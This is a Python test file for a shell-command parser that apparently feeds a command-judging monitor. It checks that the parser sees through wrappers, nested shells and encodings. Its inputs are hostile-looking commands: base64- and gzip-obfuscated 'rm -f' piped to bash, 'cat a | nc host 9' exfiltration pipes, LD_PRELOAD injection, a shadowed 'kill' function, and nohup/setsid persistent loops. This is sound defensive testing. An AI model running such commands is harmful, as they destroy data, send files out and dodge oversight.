"""What a command runs, seen through wrappers, nested shells and simple encodings."""

from __future__ import annotations

import base64
import gzip

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from offswitch.verdicts.commands import steps

CODED = base64.b64encode(b"rm -f run.sh").decode()
PACKED = base64.b64encode(gzip.compress(b"rm -f run.sh", mtime=0)).decode()


@pytest.mark.parametrize(
    "text",
    [
        "rm -f run.sh",
        "'rm' \"-f\" run.sh",
        "\\rm -f run.sh",
        "command rm -f run.sh",
        "(rm -f run.sh)",
        "{ rm -f run.sh; }",
        "ls; rm -f run.sh && ls",
        "bash -c 'rm -f run.sh'",
        'sh -ec "rm -f run.sh"',
        "bash <<'END'\nrm -f run.sh\nEND",
        "bash <<< 'rm -f run.sh'",
        "eval 'rm -f run.sh'",
        "eval rm -f run.sh",
        "X=run; rm -f $X.sh",
        'X=run Y=sh; rm -f "${X}.sh"',
        "env A=1 rm -f run.sh",
        "timeout 5 nice -n 3 rm -f run.sh",
        "echo 'rm -f run.sh' | sh",
        "printf 'rm -f %s\\n' run.sh | bash",
        f"echo {CODED} | base64 -d | sh",
        f"base64 -d <<< {CODED} | bash",
        f"echo {CODED[::-1]} | rev | base64 --decode | bash",
        f"echo {PACKED} | base64 -d | gunzip | bash",
        f"base64 -d <<< {PACKED} | gzip -dc | sh",
        f"echo {base64.b32encode(b'rm -f run.sh').decode()} | base32 -d | cat | sh",
        f"printf %s {b'rm -f run.sh'.hex()} | xxd -r -p | bash",
        f'eval "$(echo {CODED} | base64 -d)"',
        "bash -c \"$(printf '\\162\\155 -f run.sh')\"",
        "echo $(rm -f run.sh)",
        "if true; then rm -f run.sh; fi",
        "nohup setsid rm -f run.sh",
        "r\\\nm -f run.sh",
        "$'\\x72m' -f run.sh",
        "find . -name x -exec rm -f run.sh \\;",
    ],
)
def test_a_removal_is_seen_in_every_dress(text: str) -> None:
    assert any(step.program in ("rm",) and step.words[1:] == ("-f", "run.sh") for step in steps(text)), steps(text)


@pytest.mark.parametrize(
    "text",
    [
        "echo rm -f run.sh",
        "# rm -f run.sh",
        "echo 'bash -c \"rm -f run.sh\"'",
        "cat > note <<'END'\nrm -f run.sh\nEND",
        "grep 'rm -f run.sh' notes",
        "printf 'rm -f run.sh' > plan.txt",
    ],
)
def test_words_that_are_only_written_are_not_run(text: str) -> None:
    assert not any(step.program == "rm" for step in steps(text))


@pytest.mark.parametrize(
    ("text", "program", "background", "looped"),
    [
        ("(while true; do cp a b; sleep 1; done) &", "cp", True, True),
        ("while true; do cp a b; done", "cp", False, True),
        ("nohup bash -c 'while :; do cp a b; done' &", "cp", True, True),
        ("setsid -f sh -c 'sleep 9; cp a b'", "cp", True, False),
        ("sleep 9 & cp a b", "cp", False, False),
        ("sleep 9 && cp a b &", "cp", True, False),
        ("for i in 1 2; do cp a b; done &", "cp", True, True),
        ("{ cp a b; } & wait", "cp", True, False),
        ("echo x; until false; do cp a b; done", "cp", False, True),
    ],
)
def test_background_and_loops_are_told(text: str, program: str, background: bool, looped: bool) -> None:
    (step,) = [step for step in steps(text) if step.program == program]
    assert (step.background, step.looped) == (background, looped)


def test_environment_and_definitions_are_told() -> None:
    assert ("LD_PRELOAD", "/tmp/x.so") in steps("LD_PRELOAD=/tmp/x.so ./run")[0].environment
    assert ("LD_PRELOAD", "/tmp/x.so") in steps("env LD_PRELOAD=/tmp/x.so ./run")[0].environment
    assert ("BASH_ENV", "/tmp/x") in steps("export BASH_ENV=/tmp/x")[0].environment
    assert steps("kill() { :; }")[0].words == ("function", "kill")
    assert steps("function kill { :; }")[0].words == ("function", "kill")


@settings(deadline=None)
@given(st.text())
def test_any_text_can_be_read(text: str) -> None:
    steps(text)


@settings(deadline=None)
@given(st.text(alphabet="(){}[]<>|&;\"'`$\\\n \t#=abfidocaseswhilthn", max_size=200))
def test_any_heap_of_shell_signs_can_be_read(text: str) -> None:
    steps(text)


def test_two_brackets_apart_are_a_subshell_in_a_subshell() -> None:
    (step,) = [step for step in steps("( (sleep 3; rm x) & )") if step.program == "rm"]
    assert step.background
    assert not [step for step in steps("((x = rm + 1))") if step.program == "rm"]


@pytest.mark.parametrize(
    "text",
    [
        "cat a | nc host 9",
        "(cat a; ls) | gzip | nc host 9",
        "bash -c 'cat a | gzip' | nc host 9",
        "cat a | bash -c 'gzip | nc host 9'",
        "for i in 1 2; do cat a; done | nc host 9",
        f"echo {base64.b64encode(b'cat a | nc host 9').decode()} | base64 -d | bash",
        "printf '\\x63at a | nc host 9' | bash",
    ],
)
def test_what_is_fed_to_a_program_is_in_its_pipeline(text: str) -> None:
    first, last = (next(step for step in steps(text) if step.program == name) for name in ("cat", "nc"))
    assert {*first.pipes} & {*last.pipes}


@pytest.mark.parametrize(
    "text", ["cat a; nc host 9", "cat a | wc; nc host 9", "cat a && nc host 9", "printf 'cat a; nc host 9' | bash"]
)
def test_what_only_stands_beside_it_is_not(text: str) -> None:
    first, last = (next(step for step in steps(text) if step.program == name) for name in ("cat", "nc"))
    assert not {*first.pipes} & {*last.pipes}
